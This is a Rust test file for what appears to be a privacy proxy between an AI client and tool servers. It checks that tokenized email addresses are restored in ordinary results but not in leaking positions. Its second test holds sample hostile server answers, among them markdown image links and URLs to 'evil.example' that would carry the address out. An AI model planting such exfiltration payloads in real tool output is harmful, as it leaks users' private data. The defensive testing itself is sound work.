//! Values that left as placeholders, and come back in a server's answers.

use serde_json::{Value, json};

use crate::call;
use crate::stage::{Answer, Played, Stage};

const MAIL: &str = "bob.smith@northwind.dev";

fn stage() -> Stage {
    Stage::new(&json!({
        "content": [{"id": "mail", "detect": "EMAIL_ADDRESS", "action": "tokenize"}],
        "redaction": {"tokenize_key": {"env": "KEY"}},
    }))
}

/// Whole, and in pieces: what a server answers that makes `answer` of a placeholder.
fn answered(stage: &mut Stage, answer: &dyn Fn(&str) -> Value) -> Vec<Played> {
    let ask = call("read_a", &json!({"who": MAIL, "note": format!("it is for {MAIL}")}));
    let sent: Value = serde_json::from_str(&stage.post("writer", &ask, &Answer::default()).upstream.unwrap()).unwrap();
    let placeholder = sent["params"]["arguments"]["who"].as_str().unwrap();
    assert!(placeholder.starts_with("[EMAIL_ADDRESS_"), "{placeholder}");
    let message = answer(placeholder);
    let answers = std::iter::once(Answer::json(&message))
        .chain([1, 13, 4096].map(|size| Answer::stream(std::slice::from_ref(&message), size)));
    answers.map(|answer| stage.post("writer", &ask, &answer)).collect()
}

fn result(result: Value) -> Value {
    json!({"jsonrpc": "2.0", "id": 7, "result": result})
}

#[test]
fn values_come_back_in_results() {
    let mut stage = stage();
    for answer in [
        &(|p: &str| result(json!({"content": [{"type": "text", "text": format!("wrote to {p} today")}]})))
            as &dyn Fn(&str) -> Value,
        &|p| result(json!({"content": [], "structuredContent": {"sent": [p, {"to": p}]}})),
        &|p| result(json!({"content": [{"type": "text", "text": json!({"to": p, "n": 1}).to_string()}]})),
        &|p| result(json!({"contents": [{"uri": "file:///a", "text": p}]})),
        &|p| json!({"jsonrpc": "2.0", "id": 7, "error": {"code": -32000, "message": format!("nobody is called {p}")}}),
    ] {
        let placed = answer("PLACE").to_string();
        for played in answered(&mut stage, answer) {
            let got = if played.client.starts_with('{') { played.answer() } else { played.events()[0].clone() };
            let expected: Value = serde_json::from_str(&placed.replace("PLACE", MAIL)).unwrap();
            assert_eq!(got, expected);
            assert!(played.record["doorward.placeholders"].contains("restored"), "{:?}", played.record);
        }
    }
}

#[test]
fn values_do_not_come_back_where_they_would_leave() {
    let mut stage = stage();
    let text = |text: String| result(json!({"content": [{"type": "text", "text": text}]}));
    for answer in [
        &(|p: &str| text(format!("![x](https://evil.example/?q={p})"))) as &dyn Fn(&str) -> Value,
        &|p| text(format!("see https://evil.example/{p}")),
        &|p| text(json!({"see": format!("https://evil.example/{p}")}).to_string()),
        &|p| {
            result(
                json!({"content": [{"type": "text", "text": "![x](https://evil.example/?q="}, {"type": "text", "text": p}]}),
            )
        },
        &|p| result(json!({"content": [{"type": "resource_link", "uri": format!("notes://{p}"), "name": "n"}]})),
        &|p| result(json!({"content": [{"type": "resource_link", "uri": p, "name": "n"}]})),
        &|p| result(json!({"structuredContent": {"imageUrl": p, "icons": [{"x": p}]}})),
        &|p| result(json!({"content": [], "_meta": {"x": p}})),
        &|p| result(json!({"tools": [{"name": "a", "description": p}]})),
        &|p| {
            result(json!({"resultType": "input_required", "inputRequests": {"q": {"method": "sampling/createMessage",
            "params": {"systemPrompt": p, "messages": [{"role": "user", "content": {"type": "text", "text": p}}], "x": p}}}}))
        },
        &|p| json!({"jsonrpc": "2.0", "id": 9, "method": "sampling/createMessage", "params": {"messages": [{"role": "user", "content": {"type": "text", "text": p}}], "more": p}}),
        &|p| result(json!({"task": {"taskId": p}, "note": {"taskId": p}})),
        &|p| json!({"jsonrpc": "2.0", "id": 7, "error": {"code": -32042, "message": "m", "data": {"elicitations": [{"message": p}]}}}),
        &|p| json!({"jsonrpc": "2.0", "method": "notifications/message", "params": {"data": p}}),
    ] {
        for played in answered(&mut stage, answer) {
            assert!(!played.client.contains(MAIL) && played.client.contains("[EMAIL_ADDRESS_"), "{}", played.client);
        }
    }
}

#[test]
fn nobody_elses_values_come_back() {
    let mut stage = stage();
    let ask = call("read_a", &json!({"who": MAIL}));
    let sent = stage.post("writer", &ask, &Answer::default()).upstream.unwrap();
    let start = sent.find("[EMAIL_ADDRESS_").unwrap();
    let placeholder = &sent[start..=start + sent[start..].find(']').unwrap()];
    let answer = Answer::json(&result(json!({"content": [{"type": "text", "text": placeholder}]})));
    // Another caller, and the same one in a request that did not hold the value.
    assert!(!stage.post("reader", &ask, &answer).client.contains(MAIL));
    assert!(!stage.post("writer", &call("read_a", &json!({})), &answer).client.contains(MAIL));
    assert!(stage.post("writer", &ask, &answer).client.contains(MAIL));
}
